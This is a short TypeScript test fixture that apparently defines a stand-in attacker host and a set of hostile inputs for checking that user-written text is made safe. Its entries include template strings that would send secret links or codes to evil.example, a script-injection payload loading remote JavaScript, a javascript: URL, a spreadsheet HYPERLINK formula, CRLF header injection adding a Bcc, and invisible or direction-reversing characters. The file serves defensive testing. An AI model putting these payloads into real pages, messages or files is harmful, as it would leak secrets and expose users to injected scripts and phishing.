/** The attacker's host; no text of theirs may lead there. */
export const evilHost = 'evil.example'

/** What people may write where others read it: each tries what another place would obey. */
export const hostileWords: Readonly<Record<string, string>> = {
  'the place of a secret link': `Kopi https://${evilHost}/?s=[[link]]`,
  'the place of a secret code': `Kopi https://${evilHost}/?s=[[code]]`,
  'a variable': `Kopi https://${evilHost}/?s={{code}}{{link}}{{name}}`,
  'an address': `Menang di https://${evilHost}/hadiah`,
  'an address without a scheme': `www.${evilHost} ${evilHost}/x //${evilHost}`,
  'an address of numbers': 'http://203.0.113.9/x',
  'a script': `</script><script src="https://${evilHost}/x.js"></script><img src=x onerror=alert(1)>`,
  'a link in Markdown': `[Kopi](https://${evilHost})`,
  'a script address': 'javascript:alert(1)',
  'a formula': '=HYPERLINK("http://203.0.113.9","Kopi")',
  'a formula after a break': '\t=1+1',
  'line breaks': 'Kopi\r\nBcc: all@evil.example\r\n\r\nHi',
  'marks of direction': 'Kopi \u202eisneS\u202c \u2066x\u2069\u200f',
  'unseen characters': 'Ko\u0007pi\u001b[31m \u2028 \ufeff',
  'what ends a document': "Kopi ]]> --> */ ') (\\ %%EOF",
  'a long text': 'Kopi '.repeat(2000),
}
